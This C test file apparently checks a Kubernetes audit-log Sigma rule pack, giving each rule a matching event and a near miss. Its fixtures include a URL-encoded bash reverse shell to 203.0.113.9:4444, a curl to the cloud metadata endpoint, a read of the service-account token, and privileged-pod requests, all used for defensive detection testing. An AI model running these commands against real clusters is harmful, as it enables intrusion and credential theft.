// SPDX-License-Identifier: Apache-2.0
/*
 * keyhole's own Sigma rule pack (rules/sigma/): every rule loads, and each fires on an event
 * that matches it and stays silent on a near miss, among them the look-alike identities its
 * |cased allowlists exist for.
 */
#pragma GCC diagnostic ignored "-Wmissing-field-initializers" /* the table names what it sets */
#include <criterion/criterion.h>
#include <dirent.h>
#include <stdio.h>
#include <string.h>

#include "keyhole/sigma.h"
#include "sigma_harness.h"

struct pack_case {
	const char *id, *what;
	struct ev_spec hit, miss;
};

#define PACK KH_RULES_DIR "/sigma"
#define EXEC(cmd)                                                                                  \
	"/api/v1/namespaces/default/pods/web/exec?command=" cmd "&container=web&stdin=true"
#define POD(spec) "{\"kind\":\"Pod\",\"spec\":" spec "}"

static const struct pack_case cases[] = {
    {"8ae4be55-2770-446e-b3c2-a0b755c88604",
     "tokenrequest",
     {.verb = "create", .resource = "serviceaccounts", .subresource = "token", .user = "mallory"},
     {.verb = "create",
      .resource = "serviceaccounts",
      .subresource = "token",
      .user = "system:node:worker-1"}},
    {"8ae4be55-2770-446e-b3c2-a0b755c88604",
     "tokenrequest, OIDC look-alike of a kubelet",
     {.verb = "create",
      .resource = "serviceaccounts",
      .subresource = "token",
      .user = "SYSTEM:NODE:worker-1"},
     {.verb = "create",
      .resource = "serviceaccounts",
      .subresource = "token",
      .user = "system:serviceaccount:kube-system:x"}},
    {"d28e880d-65bf-4e46-9952-70f62fb1eba3",
     "impersonation",
     {.verb = "list", .imp_user = "system:kube-controller-manager", .user = "mallory"},
     {.verb = "list", .imp_user = "bob", .user = "mallory"}},
    {"fb91eb96-429a-4cf8-ba15-384bad8bf37f",
     "ephemeral container",
     {.verb = "patch", .resource = "pods", .subresource = "ephemeralcontainers"},
     {.verb = "patch", .resource = "pods", .subresource = "status"}},
    {"a7b5ae58-65b1-44ab-8119-8e3616019554",
     "attach",
     {.verb = "get", .resource = "pods", .subresource = "attach"},
     {.verb = "get", .resource = "pods", .subresource = "log"}},
    {"a7b5ae58-65b1-44ab-8119-8e3616019554",
     "portforward",
     {.verb = "create", .resource = "pods", .subresource = "portforward"},
     {.verb = "create",
      .resource = "pods",
      .subresource = "portforward",
      .decision = "forbid",
      .code = 403}},
    {"6492df8c-d5db-497e-9a6d-2d73442be29e",
     "nodes/proxy",
     {.verb = "create",
      .resource = "nodes",
      .subresource = "proxy",
      .ns = "-",
      .name = "n1",
      .uri = "/api/v1/nodes/n1/proxy/run/default/web/web?cmd=id"},
     {.verb = "get",
      .resource = "nodes",
      .subresource = "proxy",
      .ns = "-",
      .name = "n1",
      .uri = "/api/v1/nodes/n1/proxy/metrics/cadvisor"}},
    {"cfbe2f69-6cc4-4959-8be1-66b0d2494ad6",
     "cluster-admin binding",
     {.verb = "create",
      .resource = "clusterrolebindings",
      .ns = "-",
      .request_object = "{\"roleRef\":{\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"}}"},
     {.verb = "create",
      .resource = "clusterrolebindings",
      .ns = "-",
      .request_object = "{\"roleRef\":{\"kind\":\"ClusterRole\",\"name\":\"view\"}}"}},
    {"96e766ef-c3db-4247-bf13-7d0a88232545",
     "wildcard role",
     {.verb = "create",
      .resource = "clusterroles",
      .ns = "-",
      .request_object = "{\"rules\":[{\"verbs\":[\"get\"],\"resources\":[\"pods\"]},"
			"{\"verbs\":[\"*\"],\"resources\":[\"pods\"]}]}"},
     /* a bare '*' would be a wildcard: the rule must want the literal "*" */
     {.verb = "create",
      .resource = "clusterroles",
      .ns = "-",
      .request_object = "{\"rules\":[{\"verbs\":[\"get\",\"list\"],\"resources\":[\"pods\"]}]}"}},
    {"96e766ef-c3db-4247-bf13-7d0a88232545",
     "escalate verb in a merge patch",
     {.verb = "patch",
      .resource = "roles",
      .request_object = "{\"rules\":[{\"verbs\":[\"escalate\"],\"resources\":[\"roles\"]}]}"},
     {.verb = "patch",
      .resource = "roles",
      .request_object = "{\"rules\":[{\"verbs\":[\"get\"],\"resources\":[\"secrets\"]}]}"}},
    {"359f319a-1789-4acc-b61a-00628f203523",
     "secrets listed cluster-wide",
     {.verb = "list",
      .resource = "secrets",
      .ns = "-",
      .name = "-",
      .uri = "/api/v1/secrets?limit=500"},
     {.verb = "list",
      .resource = "secrets",
      .name = "-",
      .uri = "/api/v1/namespaces/team-a/secrets?limit=500"}},
    {"54d27048-e731-441b-bf63-e6f205aca89e",
     "anonymous allowed",
     {.verb = "list",
      .resource = "pods",
      .user = "system:anonymous",
      .uri = "/api/v1/pods",
      .name = "-",
      .ns = "-"},
     {.verb = "get", .resource = "-", .user = "system:anonymous", .uri = "/healthz"}},
    {"23dd859d-228b-4a27-8a7a-bdcc73620d88",
     "privileged pod",
     {.verb = "create",
      .resource = "pods",
      .name = "-",
      .request_object = POD("{\"initContainers\":[{\"name\":\"i\",\"securityContext\":"
			    "{\"privileged\":true}}],\"containers\":[{\"name\":\"c\"}]}")},
     {.verb = "create",
      .resource = "pods",
      .name = "-",
      .request_object = POD("{\"containers\":[{\"name\":\"c\",\"securityContext\":"
			    "{\"privileged\":false}}]}")}},
    {"b1d575fd-bbce-4c0f-a80e-3aaa4fc6889e",
     "hostPID pod",
     {.verb = "create",
      .resource = "pods",
      .name = "-",
      .request_object = POD("{\"hostPID\":true,\"containers\":[{\"name\":\"c\"}]}")},
     {.verb = "create",
      .resource = "pods",
      .name = "-",
      .request_object = POD("{\"hostPID\":false,\"containers\":[{\"name\":\"c\"}]}")}},
    {"b1d575fd-bbce-4c0f-a80e-3aaa4fc6889e",
     "hostNetwork pod",
     {.verb = "create",
      .resource = "pods",
      .name = "-",
      .request_object = POD("{\"hostNetwork\":true,\"containers\":[{\"name\":\"c\"}]}")},
     {.verb = "create",
      .resource = "pods",
      .name = "-",
      .decision = "forbid",
      .code = 403,
      .request_object = POD("{\"hostNetwork\":true,\"containers\":[{\"name\":\"c\"}]}")}},
    {"cb3e405d-aec5-4aa2-b36b-6f5b1359cd51",
     "sensitive hostPath",
     {.verb = "create",
      .resource = "pods",
      .name = "-",
      .request_object = POD("{\"volumes\":[{\"name\":\"s\",\"hostPath\":"
			    "{\"path\":\"/run/containerd/containerd.sock\"}}]}")},
     {.verb = "create",
      .resource = "pods",
      .name = "-",
      .request_object = POD("{\"volumes\":[{\"name\":\"s\",\"hostPath\":"
			    "{\"path\":\"/etc/ssl/certs\"}}]}")}},
    {"b38d1c81-cc0d-4f81-bf3e-bb6f373510a2",
     "CSR approved",
     {.verb = "update",
      .resource = "certificatesigningrequests",
      .subresource = "approval",
      .ns = "-",
      .user = "mallory"},
     {.verb = "update",
      .resource = "certificatesigningrequests",
      .subresource = "approval",
      .ns = "-",
      .user = "system:serviceaccount:kube-system:certificate-controller"}},
    {"8b8a3730-1acc-4a90-8a55-b5bff1f88679",
     "events deleted",
     {.verb = "deletecollection", .resource = "events", .name = "-"},
     {.verb = "deletecollection",
      .resource = "events",
      .name = "-",
      .user = "system:serviceaccount:kube-system:namespace-controller"}},
    {"8a305b0b-bd60-47e4-a1e8-2eb5af88ba82",
     "webhook changed",
     {.verb = "patch", .resource = "mutatingwebhookconfigurations", .ns = "-", .name = "grab"},
     {.verb = "patch",
      .resource = "mutatingwebhookconfigurations",
      .ns = "-",
      .name = "gke-policy"}},
    {"d2f3da8b-dc31-4bc7-befc-7cce0a368489",
     "exec metadata",
     {.verb = "get",
      .resource = "pods",
      .subresource = "exec",
      .uri = EXEC("curl&command=-s&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")},
     {.verb = "get",
      .resource = "pods",
      .subresource = "exec",
      .uri = EXEC("curl&command=-s&command=http%3A%2F%2F10.0.0.1%2Fhealthz")}},
    {"bbd170ff-be8e-4eee-a784-c05dcc6d57d2",
     "exec reverse shell",
     {.verb = "create",
      .resource = "pods",
      .subresource = "exec",
      .uri = EXEC(
	  "bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261")},
     {.verb = "create",
      .resource = "pods",
      .subresource = "exec",
      .uri = EXEC("bash&command=-c&command=echo+%3E+%2Fdev%2Ftcp%2Flocalhost%2F8080")}},
    {"900dda13-7e63-43b5-b92f-4a08430e5414",
     "exec credential paths",
     {.verb = "get",
      .resource = "pods",
      .subresource = "exec",
      .uri = EXEC("cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken")},
     {.verb = "get",
      .resource = "pods",
      .subresource = "exec",
      .uri = EXEC("cat&command=%2Fetc%2Fresolv.conf")}},
};

#define N_CASES (sizeof(cases) / sizeof(cases[0]))

Test(sigma_pack, every_rule_loads)
{
	const char *paths[] = {PACK};
	size_t files = 0;
	struct dirent *de;
	DIR *d = opendir(PACK);
	struct sh *h;

	cr_assert(d, "%s", PACK);
	while ((de = readdir(d)))
		files += strstr(de->d_name, ".yml") != NULL;
	closedir(d);
	cr_expect_eq(sigma__check(paths, 1, stderr), 0);
	h = sh_new_paths(paths, 1);
	cr_expect_eq(sh_rules(h), files);
	sh_free(h);
}

Test(sigma_pack, each_fires_on_a_match_and_not_on_a_near_miss)
{
	const char *paths[] = {PACK};

	for (size_t i = 0; i < N_CASES; i++) {
		const struct pack_case *c = &cases[i];
		struct sh *h = sh_new_paths(paths, 1);

		sh_ev(h, &c->miss);
		sh_flush(h);
		cr_expect_eq(sh_count(h, c->id), 0, "%s: fired on the near miss", c->what);
		sh_ev(h, &c->hit);
		sh_flush(h);
		cr_expect_eq(sh_count(h, c->id), 1, "%s: did not fire on the match", c->what);
		sh_free(h);
	}
}

Test(sigma_pack, every_rule_is_covered)
{
	const char *paths[] = {PACK};
	struct sh *h = sh_new_paths(paths, 1);
	const struct kh_sigma *s = NULL;

	(void)s;
	for (size_t r = 0; r < sh_rules(h); r++) {
		const char *id = sh_rule_id(h, r);
		size_t k;

		for (k = 0; k < N_CASES && strcmp(cases[k].id, id); k++)
			;
		cr_expect_lt(k, N_CASES, "rule %s has no test case", id);
	}
	sh_free(h);
}
